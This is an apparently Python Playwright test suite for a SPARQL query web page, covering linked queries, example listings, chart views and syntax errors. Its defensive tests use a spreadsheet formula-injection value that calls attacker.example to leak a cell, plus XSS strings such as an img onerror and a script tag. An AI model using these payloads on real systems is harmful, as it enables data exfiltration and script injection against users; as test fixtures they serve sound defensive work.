"""The query page of a real `dkg serve` on loopback, in Debian's headless chromium, as a reader
uses it: a shared `#query=` link shows the query and runs nothing until Run is clicked; the
examples are listed by title; a result can be read as a table, a bar chart, a timeline or a
graph; a syntax error names line and column in a few words; the spreadsheet CSV neutralises
formula cells while the protocol's CSV stays byte for byte the server's. Screenshots of each go
to out/test-artifacts/. Every request leaving the server is refused and recorded."""

from __future__ import annotations

import csv
import io
import json
import urllib.parse

import pytest

from dkg.queries import library
from dkg.schema.iris import PREFIXES

from .conftest import ROOT, require_program
from .test_server import http, serving

pytestmark = [pytest.mark.live, pytest.mark.browser]
ARTIFACTS = ROOT / "out" / "test-artifacts"
AGE = "SELECT ?age WHERE { id:maxim-kuzminov dkg:age ?age }"
# cells a spreadsheet would run as formulas, and two it would not
HOSTILE = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\tx=1", "\rx", "plain, with a comma", 'say "hi"']


def link(query: str) -> str:
    return "/#query=" + urllib.parse.quote(query, safe="")


@pytest.fixture(scope="module")
def endpoint(seed_out):
    with serving(seed_out, "--workers", "1") as (base, _proc, _lines):
        yield base


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api")
    from .test_viz_browser import ARGS

    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=require_program("chromium"), args=ARGS)
        yield b
        b.close()


@pytest.fixture
def tab(browser, endpoint):
    """(page, queries sent to /sparql, requests refused, page errors) for a fresh page."""
    page = browser.new_page(viewport={"width": 1280, "height": 900}, accept_downloads=True)
    queries, outside, errors = [], [], []

    def route(r):
        if r.request.url.startswith(endpoint + "/"):
            r.continue_()
        else:
            outside.append(r.request.url)
            r.abort()

    def sent(request):
        parts = urllib.parse.urlsplit(request.url)
        if parts.path == "/sparql" and (request.method == "POST" or "query=" in parts.query):
            queries.append(request.post_data or parts.query)

    page.route("**/*", route)
    page.on("request", sent)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("dialog", lambda d: (errors.append("dialog: " + d.message), d.dismiss()))
    yield page, queries, outside, errors
    assert outside == [] and errors == []
    page.close()


def editor_text(page) -> str:
    return page.evaluate("() => document.querySelector('.cm-content').innerText")


def run(page, wait: str = "#result-table"):
    page.click("#run")
    page.wait_for_selector(wait)


# the words an SVG text shows (its <title>, the tooltip, is not drawn)
SHOWN = "(sel) => [...document.querySelectorAll(sel)].map(e => e.firstChild.nodeValue)"


def overlaps(page, selector: str) -> list:
    """Pairs of elements matching `selector` whose boxes overlap (as the viz browser tests measure)."""
    return page.evaluate(
        """(sel) => {
        const boxes = [...document.querySelectorAll(sel)].map(e => [e.firstChild.nodeValue, e.getBoundingClientRect()]);
        const out = [];
        for (let i = 0; i < boxes.length; i++) for (let j = i + 1; j < boxes.length; j++) {
          const a = boxes[i][1], b = boxes[j][1];
          if (a.left < b.right - 1 && b.left < a.right - 1 && a.top < b.bottom - 1 && b.top < a.bottom - 1) out.push([boxes[i][0], boxes[j][0]]);
        }
        return out; }""",
        selector,
    )


def test_a_linked_query_waits_for_run(tab, endpoint):
    page, queries, _outside, _errors = tab
    page.goto(endpoint + link(AGE))
    page.wait_for_selector(".cm-editor .cm-content")
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(500)
    assert editor_text(page).strip() == AGE
    assert queries == [], "opening a link must not run its query"
    assert "press Run" in page.inner_text("#status")
    assert page.locator("#result-table").count() == 0
    run(page)
    assert len(queries) == 1 and "maxim-kuzminov" in queries[0]
    assert page.inner_text("#result-table tbody td").startswith("28")
    # another link opened on the same page (the hash changes): shown, not run
    other = "SELECT ?name WHERE { id:hur rdfs:label ?name }"
    page.evaluate("(h) => { location.hash = h; }", link(other)[1:])
    page.wait_for_function("() => document.querySelector('.cm-content').innerText.includes('id:hur')")
    page.wait_for_timeout(300)
    assert len(queries) == 1 and page.locator("#result-table").count() == 0
    # ?query= as well
    page.goto(endpoint + "/?query=" + urllib.parse.quote(other))
    page.wait_for_selector(".cm-editor .cm-content")
    page.wait_for_load_state("networkidle")
    assert len(queries) == 1
    run(page)
    assert len(queries) == 2


def test_the_page_takes_its_prefixes_from_the_server(tab, endpoint):
    page, _q, _o, _e = tab
    page.goto(endpoint + "/")
    page.wait_for_selector(".cm-editor .cm-content")
    assert json.loads(page.inner_text("#dkg-prefixes")) == PREFIXES
    assert page.inner_text("#prefixes").split() == [p + ":" for p in PREFIXES]
    page.goto(endpoint + link("SELECT ?p WHERE { ?p a dkg:Person } ORDER BY ?p LIMIT 1"))
    page.wait_for_selector(".cm-editor .cm-content")
    run(page)
    assert page.inner_text("#result-table tbody td").startswith("id:")  # shortened with the served prefixes


def _download(page, button: str) -> bytes:
    with page.expect_download() as info:
        page.click(button)
    return open(info.value.path(), "rb").read()


def test_spreadsheet_csv_neutralises_formulas_and_protocol_csv_is_the_servers(tab, endpoint):
    page, _q, _o, _e = tab
    values = " ".join(json.dumps(v) for v in HOSTILE)
    query = f"SELECT ?cell ?n WHERE {{ VALUES ?cell {{ {values} }} BIND(STRLEN(?cell) AS ?n) }}"
    page.goto(endpoint + link(query))
    page.wait_for_selector(".cm-editor .cm-content")
    note = page.inner_text("#sheet-note")
    assert "=, +, -, @" in note and "apostrophe" in note and "formula" in note
    assert page.locator("#dl-sheet").is_visible() and page.locator("#sheet-note").is_visible()
    sheet = _download(page, "#dl-sheet")
    plain = _download(page, "#dl-csv")
    # the protocol's CSV: exactly what the server sends for text/csv
    status, _h, served = http(endpoint + "/sparql", data=query.encode(), headers={"Content-Type": "application/sparql-query", "Accept": "text/csv"})
    assert status == 200 and plain.decode("utf-8") == served
    assert [r[0] for r in csv.reader(io.StringIO(served, newline=""))][1:] == HOSTILE  # unchanged, as the spec says
    # for spreadsheets: a byte-order mark, every cell quoted, formula starts made text
    text = sheet.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows[0] == ["cell", "n"]
    got = {r[0] for r in rows[1:]}
    for value in HOSTILE:
        risky = value[0] in "=+-@\t\r"
        assert (("'" + value) if risky else value) in got, value
    assert all(not r[0].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows[1:])
    assert all(line.startswith('"') for line in text[1:].split("\r\n") if line)


def test_examples_are_listed_by_title(tab, endpoint):
    page, queries, _o, _e = tab
    page.goto(endpoint + "/")
    page.wait_for_selector("#examples li")
    items = page.locator("#examples li")
    assert items.count() == len(library.names())
    titles = page.locator("#examples button.example").all_inner_texts()
    assert titles == [q.title for q in library.all_queries()]
    listed = page.inner_text("#examples")
    assert ".rq" not in listed and "loaders/" not in listed and ".py" not in listed
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "query-page-examples.png"))
    # a filter narrows the list; choosing one puts it in the editor and runs nothing
    page.fill("#example-filter", "corroborated")
    assert page.locator("#examples li:visible").count() == 1
    page.click("text=How well each claim is corroborated")
    assert "dkg:originCount" in editor_text(page)
    assert "Press Run" in page.inner_text("#example-help") and queries == []
    run(page)
    assert page.inner_text("#status").startswith("234 row(s)")  # one per claim, not 787
    page.screenshot(path=str(ARTIFACTS / "query-page-table.png"), full_page=True)


BAR = """SELECT ?entity ?entityLabel (COUNT(?claim) AS ?claims) WHERE {
  ?claim dkg:subject ?entity . ?entity rdfs:label ?entityLabel
} GROUP BY ?entity ?entityLabel ORDER BY DESC(?claims) ?entity LIMIT 25"""
GRAPH = """SELECT ?person ?personLabel ?unit ?unitLabel WHERE {
  ?claim dkg:subject ?person ; dkg:property dkg:servedIn ; dkg:value ?unit .
  ?person rdfs:label ?personLabel . ?unit rdfs:label ?unitLabel
}"""


def test_bar_chart(tab, endpoint):
    page, _q, _o, _e = tab
    page.goto(endpoint + link(BAR))
    page.wait_for_selector(".cm-editor .cm-content")
    run(page)
    rows = page.locator("#result-table tbody tr").count()
    assert page.locator("#view-tabs [data-view=timeline]").is_disabled()  # no dates: says why
    assert "dates" in page.get_attribute("#view-tabs [data-view=timeline]", "title")
    page.click("#view-tabs [data-view=bar]")
    page.wait_for_selector("#view-bar svg")
    assert page.locator("#view-bar svg rect").count() == rows >= 3
    names = page.evaluate(SHOWN, "#view-bar svg g.bar text")
    assert "Dmitry Mishov" in names
    widths = page.evaluate("() => [...document.querySelectorAll('#view-bar rect')].map(r => r.getBBox().width)")
    assert widths == sorted(widths, reverse=True) and widths[0] > widths[-1]  # the longest bar is the biggest count
    assert overlaps(page, "#view-bar svg text") == []
    inside = page.evaluate("() => { const s = document.querySelector('#view-bar svg').getBoundingClientRect(); "
                           "return [...document.querySelectorAll('#view-bar svg text')].every(t => { const b = t.getBoundingClientRect(); "
                           "return b.left >= s.left && b.right <= s.right; }); }")
    assert inside, "a bar's name runs outside the chart"
    page.screenshot(path=str(ARTIFACTS / "query-page-chart.png"), full_page=True)
    pickers = page.locator("#view-bar .view-controls select")
    assert pickers.count() == 2 and page.inner_text("#view-bar .view-controls").startswith("bars named by")
    assert pickers.nth(0).input_value() == "entityLabel" and pickers.nth(1).input_value() == "claims"
    pickers.nth(0).select_option("entity")  # another column names the bars
    names = page.evaluate(SHOWN, "#view-bar svg g.bar text")
    assert "id:dmitry-mishov" in names and "Dmitry Mishov" not in names
    assert pickers.nth(0).input_value() == "entity" and page.locator("#view-bar svg rect").count() == rows


def test_timeline(tab, endpoint):
    page, _q, _o, _e = tab
    q = library.load("timeline")
    page.goto(endpoint + link(q.portable_text))
    page.wait_for_selector(".cm-editor .cm-content")
    run(page)
    page.click("#view-tabs [data-view=timeline]")
    page.wait_for_selector("#view-timeline svg")
    dots = page.locator("#view-timeline circle").count()
    assert dots >= 5
    xs = page.evaluate("() => [...document.querySelectorAll('#view-timeline circle')].map(c => Number(c.getAttribute('cx')))")
    assert xs == sorted(xs)  # in date order, earliest first
    assert overlaps(page, "#view-timeline svg g.event text") == []
    assert overlaps(page, "#view-timeline svg text.tick") == []
    assert "without a date" in page.inner_text("#view-timeline") or dots == page.locator("#result-table tr").count()
    page.screenshot(path=str(ARTIFACTS / "query-page-timeline.png"), full_page=True)
    pickers = page.locator("#view-timeline .view-controls select")
    assert pickers.count() == 2 and page.inner_text("#view-timeline .view-controls").startswith("dates from")
    other = [v for v in page.eval_on_selector_all("#view-timeline .view-controls label:last-child option", "os => os.map(o => o.value)")
             if v != pickers.nth(1).input_value()][0]
    pickers.nth(1).select_option(other)  # another column names the events, the dates stay
    assert page.locator("#view-timeline circle").count() == dots
    assert pickers.nth(1).input_value() == other


def test_graph(tab, endpoint):
    page, _q, _o, _e = tab
    page.goto(endpoint + link(GRAPH))
    page.wait_for_selector(".cm-editor .cm-content")
    run(page)
    page.click("#view-tabs [data-view=graph]")
    page.wait_for_selector("#view-graph svg")
    page.screenshot(path=str(ARTIFACTS / "query-page-graph.png"), full_page=True)
    labels = page.evaluate(SHOWN, "#view-graph g.node text")
    assert "Maxim Kuzminov" in labels and "319th helicopter regiment" in labels  # names, not slugs
    assert page.locator("#view-graph line").count() >= 3
    href = page.locator("#view-graph g.node a").first.get_attribute("href")
    assert href.startswith("/id/")
    assert overlaps(page, "#view-graph g.node text") == []


def test_syntax_error_in_a_few_words(tab, endpoint):
    page, _q, _o, _e = tab
    page.goto(endpoint + link("SELECT ?x WHERE { ?x a dkg:Person . "))
    page.wait_for_selector(".cm-editor .cm-content")
    page.click("#run")
    page.wait_for_function("() => document.getElementById('error').textContent.length > 0")
    text = page.inner_text("#error")
    assert text.startswith("SPARQL syntax error at line 1, column 37: expected a variable")
    assert "\\u{" not in text and len(text.splitlines()) <= 3
    # the cursor stands where the mistake is: the line of the error, in the editor
    page.goto(endpoint + link("SELECT ?x WHERE {\n  ?x ?y ?z .\n  FILTER(?x = )\n}"))
    page.wait_for_selector(".cm-editor .cm-content")
    page.click("#run")
    page.wait_for_function("() => document.getElementById('error').textContent.includes('line 3')")
    assert page.inner_text(".cm-activeLine").strip() == "FILTER(?x = )"
    page.screenshot(path=str(ARTIFACTS / "query-page-syntax-error.png"))


HOSTILE_LABELS = ["<img src=x onerror=alert(1)>", "<script>alert(2)</script>", "&lt;b&gt;bold</text><text>x"]


def test_views_show_hostile_text_as_text(tab, endpoint):
    page, _q, _o, _e = tab
    rows = " ".join(
        f'(id:evil-{i} {json.dumps(a)} id:evil-{i + 1} {json.dumps(b)} {i + 2} "202{i}-0{i + 1}-1{i}")'
        for i, (a, b) in enumerate(zip(HOSTILE_LABELS, HOSTILE_LABELS[1:] + HOSTILE_LABELS[:1]))
    )
    query = f"SELECT ?x ?xLabel ?y ?yLabel ?n ?when WHERE {{ VALUES (?x ?xLabel ?y ?yLabel ?n ?when) {{ {rows} }} }}"
    page.goto(endpoint + link(query))
    page.wait_for_selector(".cm-editor .cm-content")
    run(page)
    for view in ("bar", "timeline", "graph"):
        page.click(f"#view-tabs [data-view={view}]")
        page.wait_for_selector(f"#view-{view} svg")
        shown = " ".join(page.evaluate(SHOWN, f"#view-{view} svg text"))
        assert HOSTILE_LABELS[0] in shown, (view, shown)
        assert page.locator("#results img, #results script, #results b, #results foreignObject").count() == 0
